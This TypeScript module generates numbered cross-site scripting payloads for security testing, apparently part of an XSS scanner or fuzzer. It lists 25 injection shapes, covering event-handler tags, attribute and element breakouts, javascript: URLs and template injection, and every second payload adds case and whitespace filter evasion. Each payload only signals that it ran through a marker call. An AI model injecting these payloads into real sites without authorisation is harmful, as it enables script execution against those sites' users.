/** The script in payload `n`. If the page runs the script, it calls `xss(n)`. */
const fire = (n: number) => `xss(${n})`

const SHAPES: readonly ((n: number) => string)[] = [
  (n) => `<svg onload=${fire(n)}>`,
  (n) => `<img src=x onerror=${fire(n)}>`,
  (n) => `<script>${fire(n)}</script>`,
  (n) => `"><svg/onload=${fire(n)}>`,
  (n) => `'><img src=x onerror=${fire(n)}>`,
  (n) => `javascript:${fire(n)}`,
  (n) => `<body onload=${fire(n)}>`,
  (n) => `" onfocus=${fire(n)} autofocus x="`,
  (n) => `' onmouseover=${fire(n)} x='`,
  (n) => `</title><svg onload=${fire(n)}>`,
  (n) => `</textarea><svg onload=${fire(n)}>`,
  (n) => `</script><svg onload=${fire(n)}>`,
  (n) => `\${${fire(n)}}`,
  (n) => `{{constructor.constructor('${fire(n)}')()}}`,
  (n) => `<iframe src=javascript:top.${fire(n)}>`,
  (n) => `<a href=javascript:${fire(n)}>x</a>`,
  (n) => `<input onfocus=${fire(n)} autofocus>`,
  (n) => `<details open ontoggle=${fire(n)}>`,
  (n) => `<style onload=${fire(n)}></style>`,
  (n) => `<video src=x onerror=${fire(n)}>`,
  (n) => `<math><mi xlink:href="javascript:${fire(n)}">`,
  (n) => `<!--><svg onload=${fire(n)}>-->`,
  (n) => `\u202e<svg onload=${fire(n)}>`,
  (n) => `&lt;svg onload=${fire(n)}&gt;`,
  (n) => `%3Csvg onload=${fire(n)}%3E`,
]

/** Returns different script payloads of at most 50 characters each, which fit into every text field. */
export function payloads(count: number): string[] {
  return Array.from({ length: count }, (_, index) => {
    const shape = SHAPES[index % SHAPES.length]
    const text = shape?.(index) ?? ''
    // In every second payload, '<SvG' replaces '<svg', and a tab replaces the space before the event handler.
    return index % 2 === 0 ? text : text.replace('<svg', '<SvG').replace(' on', '\ton')
  })
}
